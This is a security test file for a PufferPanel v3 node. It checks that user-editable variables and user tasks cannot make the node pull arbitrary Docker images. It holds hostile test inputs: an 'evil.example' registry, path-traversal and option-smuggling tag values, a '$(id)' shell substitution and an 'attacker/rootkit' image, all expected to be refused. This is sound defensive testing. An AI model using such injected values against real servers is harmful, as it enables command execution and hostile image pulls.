// Attack: the install steps PufferPanel v3 templates bring that reach out of the node (issue 17):
// dockerpull and curseforge. A user who may edit a server's variables, install it and save tasks
// tries to make the node pull an image of their choosing (a repository, registry or digest in a
// tag variable, a dockerpull in a task), and a CurseForge answer (the fixture API standing in
// for a hostile or broken one) tries to climb out of the server's folder, to fetch file:// URLs
// or to carry the node's API key elsewhere. Each is refused with a reason and changes nothing
// outside the server's folder.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { startTestNode, type TestNode } from "../helpers/node";
import { jsonInit, panelWithNode, type PanelWithNode } from "../helpers/panel-node";
import { startFakeRegistry, type FakeRegistry } from "../helpers/fake-registry";

let node: TestNode;
let ctx: PanelWithNode;
let registry: FakeRegistry;
beforeAll(async () => {
  node = await startTestNode({ stopTimeoutMs: 2000 });
  ctx = await panelWithNode(node);
  registry = startFakeRegistry("kiln-test/pulled", ["1"]);
});
afterAll(async () => {
  registry.stop();
  await node.stop();
});

const variable = (value: string, userEdit: boolean) => ({ type: "string", value, display: "x", desc: "", required: true, userEdit });
const as = (token: string, method: string, path: string, body?: unknown) => ctx.panel.request(`/proxy/daemon/server/${path}`, { token, ...jsonInit(method, body) });

async function template(name: string, body: Record<string, unknown>): Promise<Response> {
  return ctx.panel.request(`/api/templates/${name}`, { token: ctx.admin.token, ...jsonInit("PUT", { display: name, type: "test", icon: "x", run: { command: "true" }, ...body }) });
}

async function server(templateName: string, environment: string) {
  const res = await ctx.panel.request("/api/servers", { token: ctx.admin.token, ...jsonInit("POST", { name: `${templateName}-${Math.random().toString(36).slice(2, 7)}`, node: ctx.nodeId, template: templateName, environment: { type: environment } }) });
  if (res.status !== 201) throw new Error(`create failed: ${await res.text()}`);
  const { id } = await res.json();
  const user = await ctx.userWith(id, { editServerData: true, installServer: true, viewServerConsole: true, putServerFiles: true });
  return { id, user };
}

async function expectRefused(response: Response, code: string, text?: string): Promise<void> {
  expect(response.status).toBeGreaterThanOrEqual(400);
  expect(response.status).toBeLessThan(500);
  const body = await response.json();
  expect(body.error.code).toBe(code);
  if (text) expect(JSON.stringify(body.error.metadata)).toContain(text);
  expect(JSON.stringify(body)).not.toContain(node.config.dataDir);
}

/** A failed install: ErrStepFailed naming the step, the reason saying why (never a stack or a host path). */
async function expectStepFailed(response: Response, step: string, reason: string): Promise<void> {
  const body = await response.json();
  expect(body.error).toMatchObject({ code: "ErrStepFailed", metadata: { step } });
  expect(body.error.metadata.reason).toContain(reason);
  expect(JSON.stringify(body)).not.toContain(node.config.dataDir);
  expect(JSON.stringify(body)).not.toMatch(/\bat .*\.ts:\d+/);
}

describe("dockerpull: the image is the template's", () => {
  test("a template whose dockerpull repository a user's variable names is refused when saved", async () => {
    await expectRefused(await template("pull-repo", { environment: { type: "docker", image: "kiln-test/busybox" }, data: { image: variable("kiln-test/busybox", true) }, install: [{ type: "dockerpull", imageName: "${image}" }] }), "ErrTemplateFieldInvalid", "install.0.imageName");
    await expectRefused(await template("pull-registry", { environment: { type: "docker", image: "kiln-test/busybox" }, data: { reg: variable("evil.example", true) }, install: [{ type: "dockerpull", imageName: "${reg}/busybox:1" }] }), "ErrTemplateFieldInvalid", "install.0.imageName");
    expect((await ctx.panel.request("/api/templates/pull-repo", { token: ctx.admin.token })).status).toBe(404);
  });

  test("a user's tag value naming another repository, registry or digest fails the install; nothing is pulled", async () => {
    expect((await template("pull-tag", { environment: { type: "docker", image: "kiln-test/busybox" }, supportedEnvironments: [{ type: "docker", image: "kiln-test/busybox" }], data: { tag: variable("1", true) }, install: [{ type: "dockerpull", imageName: `${registry.host}/kiln-test/pulled:\${tag}` }] })).status).toBe(200);
    const { id, user } = await server("pull-tag", "docker");
    const before = registry.requests.length;
    for (const tag of ["1/../../attacker/rootkit", "1@sha256:0000", "evil.example:5000/root", "1 --all-tags", "$(id)"]) {
      expect((await as(user.token, "POST", `${id}/data`, { data: { tag } })).status).toBe(204);
      await expectStepFailed(await as(user.token, "POST", `${id}/install?wait=true`), "dockerpull", "the value of tag is not an image tag");
    }
    expect(registry.requests.length).toBe(before);
  }, 30_000);

  test("a dockerpull in a task is an administrator's: a user's task with one is refused and not stored", async () => {
    expect((await template("pull-task", { environment: { type: "docker", image: "kiln-test/busybox" }, supportedEnvironments: [{ type: "docker", image: "kiln-test/busybox" }] })).status).toBe(200);
    const { id } = await server("pull-task", "docker");
    const editor = await ctx.userWith(id, { editServerData: true, putServerFiles: true, installServer: true, startServer: true, stopServer: true, sendServerConsole: true });
    await expectRefused(await as(editor.token, "POST", `${id}/tasks`, { name: "pull", cronSchedule: null, operations: [{ type: "dockerpull", imageName: "attacker/rootkit:latest" }] }), "ErrNoPermission");
    expect(Object.keys((await node.json("GET", `/daemon/server/${id}/tasks`)).tasks)).toEqual([]);
  });
});
